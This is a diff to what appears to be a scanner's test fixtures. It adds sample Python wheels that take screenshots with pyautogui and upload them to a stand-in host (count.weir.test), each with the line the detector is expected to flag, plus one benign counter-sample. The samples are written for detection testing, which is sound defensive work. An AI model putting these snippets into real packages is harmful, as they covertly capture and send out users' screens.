@@ -44,8 +44,64 @@ export const samples: Samples = {
       },
       expected: [{ rule: 'screen', file: 'own/__init__.py', line: 3, severity: 'high' }],
     },
+    {
+      name: 'a picture of the screen that one function takes and another hands over as text, for a third',
+      files: wheel(
+        "import base64, pyautogui, requests\ndef look():\n    pyautogui.screenshot('own.png')\ndef tell(text):\n    requests.post('https://count.weir.test/up', json={'own': text})\ndef go():\n    look()\n    tell(base64.b64encode(open('own.png', 'rb').read()).decode())\n",
+      ),
+      expected: at('screen', 'high', 3),
+    },
+    {
+      name: 'a picture that is handed over when the module is started as a program',
+      files: wheel(
+        "import pyautogui, requests\ndef look():\n    pyautogui.screenshot('own.png')\ndef tell():\n    requests.post('https://count.weir.test/up', files={'own': open('own.png', 'rb')})\nif __name__ == '__main__':\n    look()\n    tell()\n",
+      ),
+      expected: at('screen', 'high', 3),
+    },
+    {
+      name: 'a picture that methods of one class take and hand over',
+      files: wheel(
+        "import pyautogui, requests\nclass Watch:\n    def look(self):\n        pyautogui.screenshot('own.png')\n    def tell(self):\n        requests.post('https://count.weir.test/up', files={'own': open('own.png', 'rb')})\n",
+      ),
+      expected: at('screen', 'high', 4),
+    },
+    {
+      name: 'a picture that another module has taken and handed over',
+      files: {
+        ...wheel(
+          "import pyautogui, requests\ndef look():\n    pyautogui.screenshot('own.png')\ndef tell(text):\n    requests.get('https://count.weir.test/up', params={'own': text})\n",
+        ),
+        'own/work.py':
+          "import base64\nfrom . import look, tell\ndef go():\n    look()\n    tell(base64.b64encode(open('own.png', 'rb').read()))\n",
+      },
+      expected: [{ rule: 'screen', file: 'own/work.py', line: 4, severity: 'high' }],
+    },
+    {
+      name: 'a picture that a program beside the module has taken and handed over',
+      files: {
+        ...wheel(
+          "import pyautogui, requests\ndef look():\n    pyautogui.screenshot('own.png')\ndef tell():\n    requests.post('https://count.weir.test/up', files={'own': open('own.png', 'rb')})\n",
+        ),
+        'own/__main__.py': 'import own\nwhile True:\n    own.look()\n    own.tell()\n',
+      },
+      expected: at('screen', 'high', 3),
+    },
+    {
+      name: 'a second picture behind a function that nobody calls',
+      files: wheel(
+        "import pyautogui, requests\ndef look():\n    pyautogui.screenshot('own.png')\ndef tell():\n    pyautogui.screenshot('own.png')\n    requests.post('https://count.weir.test/up', files={'own': open('own.png', 'rb')})\n",
+      ),
+      expected: at('screen', 'high', 3),
+    },
   ],
   benign: [
+    quiet('a picture for the caller, beside a function that hands over what it is given', {
+      'own-1.0.dist-info/METADATA': 'Metadata-Version: 2.1\nName: own\nVersion: 1.0\n',
+      'own/__init__.py':
+        "import pyautogui, requests\ndef look(path):\n    pyautogui.screenshot(path)\n    return path\ndef create(name, links):\n    requests.post('https://maps.weir.test/new', json={'name': name, 'links': links})\n",
+      'own/view.py':
+        'from . import look, create\nclass View:\n    def picture(self, path):\n        return look(path)\n    def layer(self, name):\n        create(name, [])\n',
+    }),
     quiet('a picture of the screen that a service is asked about', {
       'own-1.0.dist-info/METADATA': 'Metadata-Version: 2.1\nName: own\nVersion: 1.0\n',
       'own/__init__.py':
